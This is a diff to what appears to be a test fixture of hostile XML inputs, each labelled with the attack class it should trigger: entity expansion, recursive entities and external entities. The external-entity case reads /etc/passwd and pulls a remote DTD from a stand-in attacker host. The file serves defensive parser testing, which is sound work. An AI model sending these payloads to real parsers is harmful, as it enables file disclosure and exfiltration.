@@ -42,8 +42,10 @@ HELD = {
     "never used": (laughs(10, 10).replace("&e9;</a>", "</a>"), {"expansion"}),
     "one in itself": ("<!DOCTYPE a [<!ENTITY a 'x&a;'>]><a/>", {"recursion"}),
     "out of band": (
-        "<!DOCTYPE a [<!ENTITY % f SYSTEM 'php://filter/resource=/etc/passwd'>"
-        + "<!ENTITY % d PUBLIC 'x' 'http://evil.example/e.dtd'>%d;]><a/>",
+        (
+            "<!DOCTYPE a [<!ENTITY % f SYSTEM 'php://filter/resource=/etc/passwd'>"
+            "<!ENTITY % d PUBLIC 'x' 'http://evil.example/e.dtd'>%d;]><a/>"
+        ),
         {"external_entity"},
     ),
     "over lines": (
